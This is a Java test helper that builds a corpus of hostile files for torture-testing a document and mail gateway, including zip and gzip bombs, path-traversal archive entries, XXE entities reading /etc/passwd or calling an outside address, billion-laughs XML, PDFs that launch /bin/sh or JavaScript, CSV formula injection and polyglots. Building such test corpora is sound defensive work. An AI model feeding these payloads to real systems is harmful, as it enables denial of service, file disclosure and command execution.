package org.sealpost.torture;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Random;
import java.util.stream.Stream;
import java.util.zip.CRC32;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * Files that were made to harm whoever opens them: bombs, cycles, depth, polyglots, entities, lies about sizes, cut ends, and valid forms
 * damaged by a seeded fuzzer. All of our own making, none with anything in it that runs.
 */
final class HostileFiles {
    private static final int DEEP = 20_000;
    private static final int MEGABYTE = 1 << 20;
    private static final byte[] PNG = {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10};

    private final List<File> all = new ArrayList<>();
    private final Random random;
    private final String outside;

    /** @param content unique to this file */
    record File(String name, byte[] content) {}

    private interface Writing {
        void to(ZipOutputStream zip) throws IOException;
    }

    private HostileFiles(long seed, String outside) {
        this.random = new Random(seed);
        this.outside = outside;
    }

    /**
     * The same for the same seed, different in every file for another.
     *
     * @param outside an address that nothing may ask
     * @param fuzzed how many besides those that are made by hand
     */
    static List<File> of(long seed, String outside, int fuzzed) throws IOException {
        HostileFiles files = new HostileFiles(seed, outside);
        files.archives();
        files.xml();
        files.pdfs();
        files.pictures();
        files.texts();
        files.polyglots();
        files.fuzzed(fuzzed);
        return files.all;
    }

    /** Valid forms only, damaged. */
    static List<File> fuzzed(long seed, int many) throws IOException {
        HostileFiles files = new HostileFiles(seed, "");
        files.fuzzed(many);
        return files.all;
    }

    /** Bytes behind the end make it another file than the same of another seed, and are one more thing to stumble over. */
    private void add(String name, byte[] content) {
        byte[] mark = "\n%% %016x".formatted(random.nextLong()).getBytes(StandardCharsets.US_ASCII);
        byte[] whole = new byte[content.length + mark.length];
        System.arraycopy(content, 0, whole, 0, content.length);
        System.arraycopy(mark, 0, whole, content.length, mark.length);
        all.add(new File("%03d-%s".formatted(all.size(), name), whole));
    }

    private void add(String name, String content) {
        add(name, content.getBytes(StandardCharsets.ISO_8859_1));
    }

    private void archives() throws IOException {
        byte[] zeros = new byte[MEGABYTE];
        add("ratio.zip", zip(zip -> {
            zip.putNextEntry(new ZipEntry("zeros"));
            for (int i = 0; i < 200; i++) {
                zip.write(zeros);
            }
        }));
        add("many.zip", zip(zip -> {
            for (int i = 0; i < 5000; i++) {
                put(zip, "n" + i, new byte[] {1});
            }
        }));
        add("climbs.zip", zip(zip -> {
            put(zip, "../../../../tmp/climbed", "x".getBytes(StandardCharsets.US_ASCII));
            put(zip, "/etc/climbed", "x".getBytes(StandardCharsets.US_ASCII));
            put(zip, "C:\\climbed", "x".getBytes(StandardCharsets.US_ASCII));
            put(zip, "a".repeat(60_000), new byte[] {1});
        }));
        byte[] nested = zip(zip -> put(zip, "a.txt", "inside".getBytes(StandardCharsets.US_ASCII)));
        for (int depth = 0; depth < 60; depth++) {
            byte[] inner = nested;
            nested = zip(zip -> put(zip, "z.zip", inner));
        }
        add("nested.zip", nested);
        byte[] wide = zip(zip -> put(zip, "zeros", zeros));
        for (int depth = 0; depth < 4; depth++) {
            byte[] inner = wide;
            wide = zip(zip -> {
                for (int i = 0; i < 16; i++) {
                    put(zip, "z" + i + ".zip", inner);
                }
            });
        }
        add("wide.zip", wide);
        byte[] honest = zip(zip -> put(zip, "a.txt", "honest".getBytes(StandardCharsets.US_ASCII)));
        add("encrypted.zip", changed(honest, 6, 1));
        add("unknown-method.zip", changed(honest, 8, 99));
        add("cut.zip", cut(honest, honest.length / 2));
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(packed)) {
            for (int i = 0; i < 300; i++) {
                gzip.write(zeros);
            }
        }
        add("bomb.gz", packed.toByteArray());
        add("no.7z", "7z\u00bc\u00af'\u001c" + "\u00ff".repeat(64));
        add("no.rar", "Rar!\u001a\u0007\u0001\u0000" + "\u00ff".repeat(200));
        add("bomb.tar", "big" + "\0".repeat(97) + "0000644\0".repeat(3) + "77777777777\0" + "0".repeat(400));
    }

    private void xml() throws IOException {
        String entities = "<!DOCTYPE x [<!ENTITY f SYSTEM \"file:///etc/passwd\"><!ENTITY n SYSTEM \"" + outside
                + "entity\"><!ENTITY % p SYSTEM \"" + outside + "parameter\"> %p;]>";
        StringBuilder laughs = new StringBuilder("<!DOCTYPE x [<!ENTITY a0 \"ha\">");
        for (int i = 1; i < 30; i++) {
            laughs.append("<!ENTITY a")
                    .append(i)
                    .append(" \"")
                    .append(("&a" + (i - 1) + ";").repeat(10))
                    .append("\">");
        }
        String laugh = laughs.append("]>").toString();
        String deep = "<a>".repeat(DEEP) + "</a>".repeat(DEEP);
        for (String[] kind : new String[][] {
            {"outside", entities + "<x>&f;&n;</x>"}, {"laughs", laugh + "<x>&a29;</x>"}, {"deep", deep}
        }) {
            add(kind[0] + ".xml", "<?xml version='1.0'?>" + kind[1]);
            add(
                    kind[0] + ".svg",
                    kind[1].replace("<x>", "<svg xmlns='http://www.w3.org/2000/svg'>")
                            .replace("</x>", "</svg>"));
            add(kind[0] + ".docx", office("word/document.xml", kind[1]));
            add(kind[0] + ".xlsx", office("xl/workbook.xml", kind[1]));
            add(kind[0] + ".odt", zip(zip -> {
                put(zip, "mimetype", "application/vnd.oasis.opendocument.text".getBytes(StandardCharsets.US_ASCII));
                put(zip, "content.xml", kind[1].getBytes(StandardCharsets.UTF_8));
            }));
            add(kind[0] + ".fodt", kind[1]);
            add(kind[0] + ".html", "<html><body>" + kind[1] + "</body></html>");
            add(
                    kind[0] + ".xfa.pdf",
                    pdf(
                            "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 4 0 R >> >>",
                            "<< /Length " + kind[1].length() + " >>\nstream\n" + kind[1] + "\nendstream"));
        }
        add(
                "linked.html",
                "<html><head><base href='" + outside + "'><link rel=stylesheet href='" + outside
                        + "css'></head><body><img src='" + outside + "img'><iframe src='" + outside
                        + "f'></iframe><script src='"
                        + outside + "js'></script>Reg: AB12 CDE</body></html>");
        add("linked.docx", zip(zip -> {
            put(
                    zip,
                    "[Content_Types].xml",
                    CONTENT_TYPES.formatted("word/document.xml").getBytes(StandardCharsets.UTF_8));
            put(zip, "_rels/.rels", RELATIONSHIPS.formatted("word/document.xml").getBytes(StandardCharsets.UTF_8));
            put(
                    zip,
                    "word/document.xml",
                    "<w:document xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'/>"
                            .getBytes(StandardCharsets.UTF_8));
            put(
                    zip,
                    "word/_rels/document.xml.rels",
                    ("<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>"
                                    + "<Relationship Id='r1' TargetMode='External' Target='" + outside
                                    + "template' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate'/></Relationships>")
                            .getBytes(StandardCharsets.UTF_8));
        }));
    }

    private static final String CONTENT_TYPES =
            "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'>"
                    + "<Default Extension='rels' ContentType='application/vnd.openxmlformats-package.relationships+xml'/>"
                    + "<Override PartName='/%s' ContentType='application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'/>"
                    + "</Types>";
    private static final String RELATIONSHIPS =
            "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>"
                    + "<Relationship Id='r1' Target='%s' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument'/>"
                    + "</Relationships>";

    private static byte[] office(String part, String content) throws IOException {
        return zip(zip -> {
            put(zip, "[Content_Types].xml", CONTENT_TYPES.formatted(part).getBytes(StandardCharsets.UTF_8));
            put(zip, "_rels/.rels", RELATIONSHIPS.formatted(part).getBytes(StandardCharsets.UTF_8));
            put(zip, part, content.getBytes(StandardCharsets.UTF_8));
        });
    }

    private void pdfs() throws IOException {
        add(
                "pages-in-a-circle.pdf",
                pdf("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R] /Count 9 >>"));
        add(
                "million-pages.pdf",
                pdf("<< /Type /Catalog /Pages 4 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 99999999 >>"));
        add(
                "field-tree.pdf",
                pdf("<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>", "<< /T (a) /Kids [4 0 R] >>"));
        add(
                "form-in-itself.pdf",
                pdf(
                        "<< /Type /Catalog /Pages 2 0 R >>",
                        "<< /Type /XObject /Subtype /Form /BBox [0 0 1 1]"
                                + " /Resources << /XObject << /X 4 0 R >> >> /Length 5 >>\nstream\n/X Do\nendstream"));
        add(
                "script.pdf",
                pdf(
                        "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL('" + outside
                                + "js')) >> >>",
                        "<< /S /URI /URI (" + outside + "uri) >>"));
        add("launch.pdf", pdf("<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (/bin/sh) >> >>", "null"));
        add(
                "arrays.pdf",
                pdf("<< /Type /Catalog /Pages 2 0 R /X " + "[".repeat(DEEP) + "]".repeat(DEEP) + " >>", "null"));
        add("names.pdf", pdf("<< /Type /Catalog /Pages 2 0 R /Dests << " + "/A 1 ".repeat(100_000) + ">> >>", "null"));
        add(
                "xref-to-itself.pdf",
                "%PDF-1.7\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 1 /Root 1 0 R /Prev 9 >>\nstartxref\n9\n%%EOF\n");
        add("no-end.pdf", "%PDF-1.7\n1 0 obj\n<< /Type /Catalog");
        byte[] bomb = new byte[50 * MEGABYTE];
        for (int times = 0; times < 3; times++) {
            bomb = deflated(bomb);
        }
        byte[] head = ("%PDF-1.7\n4 0 obj\n<< /Length " + bomb.length
                        + " /Filter [/FlateDecode /FlateDecode /FlateDecode] >>\nstream\n")
                .getBytes(StandardCharsets.US_ASCII);
        byte[] end =
                "\nendstream\nendobj\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99999 99999] /Contents 4 0 R >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
                        .getBytes(StandardCharsets.US_ASCII);
        add("filters.pdf", joined(head, bomb, end));
    }

    /** Objects 1 (the catalogue), 2 and 3 (one page), and 4, which is its content. Without a table: a reader has to search. */
    private static byte[] pdf(String catalogue, String fourth) {
        return ("%PDF-1.7\n1 0 obj\n" + catalogue
                        + "\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
                        + "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Resources << /XObject << /X 4 0 R >> >>"
                        + " >>\nendobj\n4 0 obj\n" + fourth + "\nendobj\ntrailer\n<< /Size 5 /Root 1 0 R >>\n%%EOF\n")
                .getBytes(StandardCharsets.ISO_8859_1);
    }

    private void pictures() throws IOException {
        for (int side : new int[] {0, 1, 65_000, 2_000_000, Integer.MAX_VALUE}) {
            add("dots-" + side + ".png", png(side, side));
        }
        add("wide.gif", "GIF89a\u00ff\u00ff\u00ff\u00ff\u00f7\0\0" + ",\0\0\0\0\u00ff\u00ff\u00ff\u00ff\0\b\u0001\0;");
        add("frames.gif", "GIF89a\1\0\1\0\u0080\0\0\0\0\0\1\1\1" + ",\0\0\0\0\1\0\1\0\0\2\2D\1\0".repeat(20_000) + ";");
        add("circle.tif", "II*\0\b\0\0\0" + "\1\0" + "\0\1\3\0\1\0\0\0\1\0\0\0" + "\b\0\0\0");
        add(
                "negative.bmp",
                "BM" + "\0".repeat(8) + "6\0\0\0(\0\0\0" + "\u00ff\u00ff\u00ff\u00ff".repeat(2) + "\1\0\30\0"
                        + "\0".repeat(24));
        add(
                "cut.jpg",
                "\u00ff\u00d8\u00ff\u00e0\0\20JFIF\0\1\1\0\0\1\0\1\0\0\u00ff\u00c0\0\21\b\u00ff\u00ff\u00ff\u00ff\3");
    }

    /** Of that size by its header, with a few bytes of content. */
    private static byte[] png(int width, int height) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(PNG);
        chunk(out, "IHDR", joined(number(width), number(height), new byte[] {8, 2, 0, 0, 0}));
        chunk(out, "IDAT", deflated(new byte[1000]));
        chunk(out, "IEND", new byte[0]);
        return out.toByteArray();
    }

    private static void chunk(ByteArrayOutputStream out, String kind, byte[] content) {
        byte[] named = joined(kind.getBytes(StandardCharsets.US_ASCII), content);
        CRC32 check = new CRC32();
        check.update(named);
        out.writeBytes(joined(number(content.length), named, number((int) check.getValue())));
    }

    private void texts() {
        add("groups.rtf", "{\\rtf1 " + "{".repeat(DEEP) + "}".repeat(DEEP) + "}");
        add(
                "object.rtf",
                "{\\rtf1{\\object\\objautlink{\\*\\objdata " + "41".repeat(50_000)
                        + "}}{\\field{\\*\\fldinst INCLUDEPICTURE \"" + outside + "rtf\"}}}");
        add("binary.rtf", "{\\rtf1{\\pict\\bin2147483647 x}}");
        add("tables.html", "<table><tr><td>".repeat(5000) + "x");
        add("attributes.html", "<p " + "a=b ".repeat(200_000) + ">x</p>");
        add("line.txt", "a".repeat(5 * MEGABYTE));
        add("newlines.txt", "\n".repeat(MEGABYTE));
        add("nul.txt", "\0".repeat(MEGABYTE));
        add("right-to-left.txt", "\u202e\u2066".repeat(10_000));
        add("quotes.csv", "\"".repeat(MEGABYTE));
        add("columns.csv", ",".repeat(MEGABYTE));
        add("formula.csv", "=cmd|' /C calc'!A0,@SUM(1+1)*cmd,+1,-1\n".repeat(100));
        add("deep.eml", "Content-Type: message/rfc822\r\n\r\n".repeat(2000));
        add("headers.eml", "X: y\r\n".repeat(100_000) + "\r\nbody");
        add("parts.eml", "Content-Type: multipart/mixed; boundary=b\r\n\r\n" + "--b\r\n\r\nx\r\n".repeat(20_000));
        add(
                "remote.eml",
                "Content-Type: message/external-body; access-type=URL; URL=\"" + outside + "body\"\r\n\r\n\r\n");
        add("winmail.dat", "x\u009f>\"" + "\u00ff".repeat(2000));
        add("empty-ole.doc", "\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1" + "\u00ff".repeat(4096));
        add("signed.p7m", "0\u0080\u0006\t*\u0086H\u0086\u00f7\r\1\7\2\u00a0\u0080" + "0\u0080".repeat(DEEP));
    }

    private void polyglots() throws IOException {
        byte[] archive = zip(zip -> put(zip, "form.txt", "Reg: AB12 CDE".getBytes(StandardCharsets.US_ASCII)));
        byte[] document = pdf("<< /Type /Catalog /Pages 2 0 R >>", "<< /Length 0 >>\nstream\n\nendstream");
        for (String name : List.of("both.pdf", "both.zip", "both.txt", "both.docx", "both")) {
            add(name, joined(document, archive));
            add("other-" + name, joined("GIF89a/*".getBytes(StandardCharsets.US_ASCII), document, archive));
        }
        add("html.pdf", joined("<html><script>".getBytes(StandardCharsets.US_ASCII), document));
        add("pdf.png", joined(PNG, document));
    }

    /** Valid forms with bytes flipped, taken out, doubled and put elsewhere. */
    private void fuzzed(int many) throws IOException {
        List<Path> forms;
        try (Stream<Path> files = Files.list(Path.of("src/test/resources/forms"))) {
            forms = files.filter(f -> !f.toString().endsWith(".json")).sorted().toList();
        }
        for (int i = 0; i < many; i++) {
            Path form = forms.get(i % forms.size());
            byte[] bytes = Files.readAllBytes(form);
            for (int wounds = 1 + random.nextInt(20); wounds > 0; wounds--) {
                bytes = wounded(bytes);
            }
            add("fuzzed-" + form.getFileName(), bytes);
        }
    }

    private byte[] wounded(byte[] bytes) {
        int at = random.nextInt(bytes.length);
        int length = Math.min(bytes.length - at, 1 + random.nextInt(64));
        switch (random.nextInt(6)) {
            case 0 -> bytes[at] ^= (byte) (1 << random.nextInt(8));
            case 1 -> bytes[at] = (byte) random.nextInt(256);
            case 2 -> java.util.Arrays.fill(bytes, at, at + length, (byte) 0xFF);
            case 3 -> System.arraycopy(bytes, random.nextInt(bytes.length - length + 1), bytes, at, length);
            case 4 -> bytes = bytes.length > 200 ? joined(cut(bytes, at), rest(bytes, at + length)) : bytes;
            default -> bytes = joined(cut(bytes, at + length), rest(bytes, at));
        }
        return bytes;
    }

    private static byte[] zip(Writing writing) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            writing.to(zip);
        }
        return bytes.toByteArray();
    }

    private static void put(ZipOutputStream zip, String name, byte[] content) throws IOException {
        zip.putNextEntry(new ZipEntry(name));
        zip.write(content);
    }

    private static byte[] deflated(byte[] content) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (DeflaterOutputStream deflater = new DeflaterOutputStream(bytes)) {
            deflater.write(content);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    private static byte[] changed(byte[] bytes, int at, int to) {
        byte[] other = bytes.clone();
        other[at] = (byte) to;
        return other;
    }

    private static byte[] cut(byte[] bytes, int length) {
        return java.util.Arrays.copyOf(bytes, length);
    }

    private static byte[] rest(byte[] bytes, int from) {
        return java.util.Arrays.copyOfRange(bytes, from, bytes.length);
    }

    private static byte[] number(int value) {
        return new byte[] {(byte) (value >>> 24), (byte) (value >>> 16), (byte) (value >>> 8), (byte) value};
    }

    private static byte[] joined(byte[]... parts) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            bytes.writeBytes(part);
        }
        return bytes.toByteArray();
    }

    /** As an attachment of a letter. */
    static String letter(File file) {
        return "From: Ann Reed <" + MailServer.SENDER
                + ">\r\nTo: intelligence@gateway.example\r\nSubject: Form\r\nMIME-Version: 1.0\r\n"
                + "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nSee the form.\r\n--b\r\n"
                + "Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n"
                + "Content-Disposition: attachment; filename=\"" + file.name() + "\"\r\n\r\n"
                + Base64.getMimeEncoder().encodeToString(file.content()) + "\r\n--b--\r\n";
    }
}
